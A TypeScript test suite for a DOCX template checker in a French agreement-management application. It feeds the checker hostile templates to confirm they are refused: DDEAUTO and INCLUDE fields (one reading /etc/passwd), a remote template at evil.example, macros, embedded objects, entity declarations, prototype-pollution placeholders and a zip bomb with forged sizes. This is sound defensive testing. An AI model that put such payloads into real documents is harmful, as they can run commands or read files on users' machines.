import {
  requiredPlaceholders,
  type TemplateKind,
  type TemplateValues,
  templateKinds,
} from '@grenier/contracts/templates'
import { unzipSync, zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { defaultTemplate } from './default-templates.ts'
import { checkTemplate, fillTemplate } from './document-template.ts'
import { templateBytesMax } from './read-container.ts'

const encode = (text: string) => new TextEncoder().encode(text)
const decode = (bytes: Uint8Array | undefined) => new TextDecoder().decode(bytes)

/** The parts of a template with some of them replaced, added, or (undefined) left out. */
function changed(changes: Readonly<Record<string, string | undefined>>, kind: TemplateKind = 'agreement'): Uint8Array {
  const parts: Record<string, Uint8Array> = unzipSync(defaultTemplate(kind))
  for (const [name, text] of Object.entries(changes)) {
    if (text === undefined) delete parts[name]
    else parts[name] = encode(text)
  }
  return zipSync(parts)
}

const partOf = (bytes: Uint8Array, name = 'word/document.xml') => decode(unzipSync(bytes)[name])

/** The body of a template with more of it before its end. */
function withBody(xml: string, kind: TemplateKind = 'agreement'): Uint8Array {
  return changed({ 'word/document.xml': partOf(defaultTemplate(kind)).replace('<w:sectPr>', `${xml}<w:sectPr>`) }, kind)
}

const said = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`

function faultOf(bytes: Uint8Array, kind: TemplateKind = 'agreement'): string {
  const checked = checkTemplate(kind, bytes)
  return 'fault' in checked ? [checked.fault.code, ...checked.fault.names].join(' ') : 'sound'
}

const values = (texts: TemplateValues['texts'] = {}): TemplateValues => ({
  texts: { 'membre.nom': 'Auvers', 'convention.numero': 'C-1', ...texts },
  lists: {
    services: [
      { 'service.nom': 'Standard', 'service.taille': '100 Go' },
      { 'service.nom': 'Rapide', 'service.taille': '50 Go' },
    ],
    prix: [],
  },
})

/** What people read: the words of each paragraph. */
const paragraphs = (bytes: Uint8Array): string[] =>
  [...partOf(bytes).matchAll(/<w:p[ >].*?<\/w:p>/gs)].map(([paragraph]) =>
    [...paragraph.matchAll(/<w:t(?: [^>]*)?>([^<]*)<\/w:t>|<w:br\/>/g)].map(([, text]) => text ?? '\n').join(''),
  )

describe('the templates that come with the software', () => {
  it.each(templateKinds)('are sound and say what %s has to say', (kind) => {
    const checked = checkTemplate(kind, defaultTemplate(kind))
    expect(checked).toHaveProperty('placeholders')
    const names = 'fault' in checked ? [] : checked.placeholders
    for (const name of requiredPlaceholders[kind]) expect(names).toContain(name)
  })

  it.each(templateKinds)('are filled without a brace left, the same bytes for the same values: %s', (kind) => {
    const filled = fillTemplate(defaultTemplate(kind), values())
    expect(partOf(filled)).not.toMatch(/[{}]/)
    expect(paragraphs(filled).join('\n')).toContain('Auvers')
    expect(Buffer.from(filled).equals(Buffer.from(fillTemplate(defaultTemplate(kind), values())))).toBe(true)
  })

  it('repeat a paragraph for each row of a list, and none for an empty one', () => {
    const read = paragraphs(fillTemplate(defaultTemplate('agreement'), values()))
    const at = read.indexOf('– Standard : 100 Go')
    expect(read.slice(at - 1, at + 3)).toEqual([
      'L’opérateur met à la disposition de l’adhérent les services suivants :',
      '– Standard : 100 Go',
      '– Rapide : 50 Go',
      'Article 2 – Participation',
    ])
  })
})

describe('a value', () => {
  it('stands as text, whatever it holds: no element, no field, no further placeholder', () => {
    const hostile = '</w:t></w:r><w:fldSimple w:instr="DDEAUTO x"/> & {operateur.nom} {#services}'
    const filled = fillTemplate(defaultTemplate('agreement'), values({ 'membre.nom': hostile }))
    const xml = partOf(filled)
    expect(xml).not.toContain('<w:fldSimple')
    expect(xml).toContain('&lt;/w:t&gt;&lt;/w:r&gt;&lt;w:fldSimple w:instr=')
    expect(paragraphs(filled).join('\n')).toContain('&amp; {operateur.nom} {#services}')
  })

  it('of several lines has breaks, and what XML cannot hold is replaced', () => {
    const filled = fillTemplate(defaultTemplate('agreement'), values({ 'membre.nom': 'Auvers\nsur\u0001Oise\ud800' }))
    expect(paragraphs(filled).join('|')).toContain('Auvers\nsur\ufffdOise\ufffd')
  })

  it('takes the place of a placeholder that Word spread over several runs', () => {
    const spread =
      '<w:p><w:r><w:t>Pour {mem</w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>bre.</w:t></w:r><w:proofErr w:type="spellStart"/><w:r><w:t>nom} ici</w:t></w:r></w:p>'
    const template = withBody(spread)
    expect(faultOf(template)).toBe('sound')
    expect(paragraphs(fillTemplate(template, values())).at(-1)).toBe('Pour Auvers ici')
  })
})

describe('a file that is no sound template', () => {
  it.each([
    ['noise', encode('PK no zip at all'), 'template-not-docx'],
    ['nothing', new Uint8Array(), 'template-not-docx'],
    ['a workbook', zipSync({ 'xl/workbook.xml': encode('<a/>') }), 'template-not-docx'],
    ['a zip cut short', defaultTemplate('agreement').subarray(0, 700), 'template-not-docx'],
    ['one without a body', changed({ 'word/document.xml': undefined }), 'template-not-docx'],
    [
      'one that declares entities',
      changed({ 'word/footer1.xml': '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }),
      'template-not-docx word/footer1.xml',
    ],
    ['macros', changed({ 'word/vbaProject.bin': 'x' }), 'template-macros word/vbaProject.bin'],
    [
      'a type with macros',
      changed({
        '[Content_Types].xml': partOf(defaultTemplate('agreement'), '[Content_Types].xml').replace(
          /vnd.openxmlformats-officedocument.wordprocessingml.document.main/,
          'vnd.ms-word.document.macroEnabled.main',
        ),
      }),
      'template-macros',
    ],
    [
      'an embedded object',
      changed({ 'word/embeddings/oleObject1.bin': 'x' }),
      'template-embedded word/embeddings/oleObject1.bin',
    ],
    ['a part of another file', withBody('<w:altChunk r:id="rId9"/>'), 'template-embedded word/document.xml'],
    [
      'a remote template',
      changed({
        'word/_rels/settings.xml.rels':
          '<Relationships><Relationship Id="r" TargetMode = \'External\' Target="https://evil.example/a.dotm"/></Relationships>',
      }),
      'template-external word/_rels/settings.xml.rels',
    ],
    [
      'a field that runs',
      withBody('<w:p><w:fldSimple w:instr=" DDEAUTO cmd "/></w:p>'),
      'template-fields word/document.xml',
    ],
    [
      'a field that is spread over runs',
      withBody(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "/etc/passwd"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
      ),
      'template-fields word/document.xml',
    ],
    ['an unknown name', withBody(said('{membre.prenom} {tenant}')), 'template-unknown membre.prenom tenant'],
    ['a name of a list beside it', withBody(said('{service.nom}')), 'template-unknown service.nom'],
    ['a name of an avenant', withBody(said('{avenant.numero}')), 'template-unknown avenant.numero'],
    ['markup of a value', withBody(said('{@membre.nom}')), 'template-unknown membre.nom'],
    ['a calculation', withBody(said('{process.exit(1)}')), 'template-unknown process.exit(1)'],
    ['what objects inherit', withBody(said('{constructor} {__proto__}')), 'template-unknown constructor __proto__'],
    ['a list that does not end', withBody(said('{#services}')), 'template-broken services'],
    [
      'a name that is wanted and absent',
      changed({
        'word/document.xml': partOf(defaultTemplate('agreement'))
          .replaceAll('{convention.numero}', '')
          .replaceAll('{acte.numero}', ''),
      }),
      'template-missing convention.numero acte.numero',
    ],
  ])('is refused for %s', (_what, bytes, fault) => {
    expect(faultOf(bytes)).toBe(fault)
  })

  it('is refused once it unpacks to more than is allowed, whatever its directory says', () => {
    const bomb = zipSync({ 'word/document.xml': new Uint8Array(40 * 1_024 * 1_024) }, { level: 9 })
    expect(bomb.length).toBeLessThan(templateBytesMax)
    expect(faultOf(bomb)).toBe('template-inflates')
    const liar = Buffer.from(bomb)
    // The size that the headers promise: at 22 in the local one, at 24 in the directory’s.
    liar.writeUInt32LE(10, 22)
    liar.writeUInt32LE(10, liar.indexOf(Buffer.from('504b0102', 'hex')) + 24)
    expect(faultOf(liar)).toBe('template-inflates')
    const many = zipSync(
      Object.fromEntries(Array.from({ length: 600 }, (_, index) => [`word/${index}.xml`, encode('<a/>')])),
    )
    expect(faultOf(many)).toBe('template-inflates')
    expect(faultOf(new Uint8Array(templateBytesMax + 1))).toBe('template-too-large')
  })

  it('loses on its way in what stands behind it', () => {
    const behind = Buffer.concat([defaultTemplate('agreement'), encode('MZ hidden')])
    const checked = checkTemplate('agreement', behind)
    expect('fault' in checked ? '' : Buffer.from(checked.bytes).toString('latin1')).not.toContain('hidden')
  })
})
